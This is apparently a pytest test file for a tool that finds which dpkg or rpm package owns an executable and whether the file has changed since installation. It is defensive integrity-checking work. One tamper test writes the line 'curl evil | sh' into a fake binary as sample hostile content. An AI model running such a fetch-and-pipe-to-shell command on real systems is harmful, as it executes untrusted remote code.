"""Which package owns an executable: a small dpkg database below a folder of its own, and this machine's real one."""

import hashlib
import os
import shutil
import subprocess
import tempfile
from pathlib import Path

import msgspec
import pytest

from agent_broker.identity import distribution, rpm
from agent_broker.identity.distribution import Distribution, Package
from agent_broker.monitor.fingerprint import facts_by_stat

TOOL = b"#!/bin/sh\necho tool\n"


class Machine:
    """A root folder with a merged /usr and a dpkg database."""

    def __init__(self, root):
        self.root = root
        self.info = root / "var/lib/dpkg/info"
        self.info.mkdir(parents=True)
        for name in ("bin", "lib"):
            (root / "usr" / name).mkdir(parents=True)
            (root / name).symlink_to(f"usr/{name}")
        self.status = root / "var/lib/dpkg/status"
        self.status.write_text("")
        self.distribution = Distribution(root)

    def install(self, package, *paths, version="1.0-1", arch="", recorded=True):
        """Have dpkg list and record paths as they are on the disk."""
        name = f"{package}:{arch}" if arch else package
        (self.info / f"{name}.list").write_text("/.\n/usr\n" + "".join(f"{each}\n" for each in paths))
        sums = [f"{md5(self.root / each[1:])}  {each[1:]}\n" for each in paths]
        (self.info / f"{name}.md5sums").write_text("".join(sums) if recorded else "")
        with self.status.open("a") as status:
            status.write(f"Package: {package}\nArchitecture: {arch or 'all'}\nVersion: {version}\n\n")

    def file(self, path, content=TOOL):
        real = self.root / path[1:]
        real.write_bytes(content)
        real.chmod(0o755)
        return self.facts(path)

    def facts(self, path):
        return facts_of(self.root / path[1:])

    def owner(self, path, facts=None):
        return self.distribution.owner_of(path, facts or self.facts(path))


def md5(path):
    return hashlib.md5(path.read_bytes(), usedforsecurity=False).hexdigest()


def facts_of(path):
    fd = os.open(path, os.O_PATH)
    try:
        return facts_by_stat(fd)
    finally:
        os.close(fd)


@pytest.fixture
def machine():
    root = Path(tempfile.mkdtemp(prefix="machine-", dir="/tmp"))
    yield Machine(root)
    shutil.rmtree(root)


def test_a_file_as_the_package_brought_it(machine):
    machine.file("/usr/bin/tool")
    machine.install("tools", "/usr/bin/tool", version="2:1.4-3")

    assert machine.owner("/usr/bin/tool") == Package("tools", "2:1.4-3", intact=True)
    assert str(machine.owner("/usr/bin/tool")) == "tools 2:1.4-3"


def test_a_package_that_names_the_folder_from_before_the_merge(machine):
    machine.file("/usr/bin/cat")
    machine.install("coreutils", "/bin/cat")

    assert machine.owner("/usr/bin/cat") == Package("coreutils", "1.0-1", intact=True)


def test_a_package_of_one_architecture_is_named_without_it(machine):
    machine.file("/usr/lib/tool")
    machine.install("libtool1", "/usr/lib/tool", arch="amd64", version="7")

    assert machine.owner("/usr/lib/tool") == Package("libtool1", "7", intact=True)


def test_a_changed_file_and_one_without_a_checksum_are_not_intact(machine):
    machine.file("/usr/bin/tool")
    machine.install("tools", "/usr/bin/tool")
    machine.file("/usr/bin/tool", TOOL + b"curl evil | sh\n")
    machine.file("/usr/bin/conf")
    machine.install("other", "/usr/bin/conf", recorded=False)

    assert machine.owner("/usr/bin/tool") == Package("tools", "1.0-1", intact=False)
    assert machine.owner("/usr/bin/conf") == Package("other", "1.0-1", intact=False)
    assert "changed since it was installed" in str(machine.owner("/usr/bin/tool"))


def test_what_no_package_lists_is_nobodys(machine):
    machine.file("/usr/bin/mine")
    machine.install("tools")

    assert machine.owner("/usr/bin/mine") is None
    assert machine.distribution.owner_of("/usr/bin/gone", machine.facts("/usr/bin/mine")) is None


@pytest.mark.parametrize("change", [{"owner_uid": 1000}, {"mode": 0o100775}, {"mode": 0o120777}, {"nlink": 0}])
def test_only_roots_files_are_looked_for(machine, change):
    facts = msgspec.structs.replace(machine.file("/usr/bin/tool"), **change)
    machine.install("tools", "/usr/bin/tool")

    assert machine.distribution.known("/usr/bin/tool", facts) == (None,)
    assert machine.owner("/usr/bin/tool", facts) is None


@pytest.mark.parametrize("other", ["ino", "size_bytes", "mtime_ns", "ctime_ns", "mode"])
def test_a_file_of_the_same_name_elsewhere_is_nobodys(machine, other):
    facts = machine.file("/usr/bin/tool")
    machine.install("tools", "/usr/bin/tool")
    elsewhere = msgspec.structs.replace(facts, **{other: getattr(facts, other) - 1 if other != "mode" else 0o100700})

    assert machine.owner("/usr/bin/tool", elsewhere) is None
    assert machine.owner("/usr/bin/tool", facts) is not None


def test_a_file_that_changes_while_it_is_read_is_nobodys(machine, monkeypatch):
    facts = machine.file("/usr/bin/tool")
    machine.install("tools", "/usr/bin/tool")
    digest = distribution._digest

    def change_meanwhile(fd, algorithm):
        machine.file("/usr/bin/tool", TOOL)
        return digest(fd, algorithm)

    monkeypatch.setattr(distribution, "_digest", change_meanwhile)
    assert machine.owner("/usr/bin/tool", facts) is None


def test_a_link_in_its_place_is_not_followed(machine):
    facts = machine.file("/usr/bin/other")
    (machine.root / "usr/bin/tool").symlink_to("other")
    machine.install("tools", "/usr/bin/tool")

    assert machine.owner("/usr/bin/tool", facts) is None


def test_diverted_files_are_their_owners(machine):
    """dpkg-divert(1): the wrapper took the name, and the original was moved."""
    machine.file("/usr/bin/tool")
    machine.install("tools", "/usr/bin/tool")
    (machine.root / "usr/bin/tool").rename(machine.root / "usr/bin/tool.real")
    machine.file("/usr/bin/tool", b"#!/bin/sh\nwrapper\n")
    machine.install("a-wrapper", "/usr/bin/tool")
    (machine.root / "var/lib/dpkg/diversions").write_text("/usr/bin/tool\n/usr/bin/tool.real\na-wrapper\n")

    assert machine.owner("/usr/bin/tool") == Package("a-wrapper", "1.0-1", intact=True)
    assert machine.owner("/usr/bin/tool.real") == Package("tools", "1.0-1", intact=True)


def test_what_was_found_is_known_until_packages_change(machine):
    facts = machine.file("/usr/bin/tool")
    assert machine.distribution.known("/usr/bin/tool", facts) is None
    assert machine.owner("/usr/bin/tool") is None
    assert machine.distribution.known("/usr/bin/tool", facts) == (None,)

    machine.install("tools", "/usr/bin/tool")

    assert machine.owner("/usr/bin/tool") == Package("tools", "1.0-1", intact=True)
    assert machine.distribution.known("/usr/bin/tool", facts) == (Package("tools", "1.0-1", intact=True),)


def test_what_is_remembered_is_bounded(machine, monkeypatch):
    monkeypatch.setattr("agent_broker.identity.distribution._MAX_KNOWN", 5)
    facts = machine.file("/usr/bin/tool")
    for number in range(20):
        machine.distribution.owner_of(f"/usr/bin/{number}\n\udcff\0", facts)

    assert len(machine.distribution._known) == 5


def test_without_a_database_nothing_is_owned(machine):
    shutil.rmtree(machine.root / "var")
    machine.file("/usr/bin/tool")

    assert machine.owner("/usr/bin/tool") is None


def test_this_machines_own_cat_is_as_dpkg_says():
    path = os.path.realpath("/bin/cat")
    said = subprocess.run(["dpkg-query", "-W", "-f", "${Version}", "coreutils"], capture_output=True, check=True)

    assert Distribution().owner_of(path, facts_of(path)) == Package("coreutils", said.stdout.decode(), intact=True)


@pytest.fixture(scope="module")
def rpm_root():
    root = Path(tempfile.mkdtemp(prefix="rpm-", dir="/tmp"))
    build(root)
    yield root
    shutil.rmtree(root)


SPEC = """Name: tools
Version: 1.4
Release: 3
Summary: t
License: t
BuildArch: noarch
%description
t
%install
mkdir -p %{buildroot}/opt
printf 'echo tool' > %{buildroot}/opt/tool
chmod 755 %{buildroot}/opt/tool
%files
/opt/tool
"""


def build(root):
    """Build a package and install it below a root of its own, with the real tools."""
    (root / "tools.spec").write_text(SPEC)
    define = ["--define", f"_topdir {root}/build", "--define", "_dbpath /var/lib/rpm"]
    subprocess.run(["rpmbuild", "-bb", *define, root / "tools.spec"], check=True, capture_output=True)
    (package,) = (root / "build").rglob("*.rpm")
    command = ["rpm", "--root", root, "--define", "_dbpath /var/lib/rpm", "-i", "--nodeps", package]
    subprocess.run(command, check=True, capture_output=True)


def test_rpm_says_who_owns_a_file_and_whether_it_changed(rpm_root):
    tool = rpm_root / "opt/tool"
    system = Distribution(rpm_root)

    assert system.owner_of("/opt/tool", facts_of(tool)) == Package("tools", "1.4-3", intact=True)

    stamp = system._stamp
    assert system.owner_of("/opt/none", facts_of(tool)) is None  # asking changes nothing that makes it forget
    assert system._stamp == stamp
    assert system.known("/opt/tool", facts_of(tool)) is not None

    tool.write_bytes(b"echo evil")
    assert system.owner_of("/opt/tool", facts_of(tool)) == Package("tools", "1.4-3", intact=False)


def test_rpm_knows_nothing_of_other_files(rpm_root):
    (rpm_root / "opt/mine").write_bytes(b"x")
    (rpm_root / "opt/mine").chmod(0o755)

    assert Distribution(rpm_root).owner_of("/opt/mine", facts_of(rpm_root / "opt/mine")) is None


def test_without_the_tool_rpm_is_not_asked(rpm_root, monkeypatch):
    monkeypatch.setattr(rpm, "_TOOL", rpm_root / "no-such-tool")

    assert rpm.owner_of(rpm_root, "/opt/tool") is None
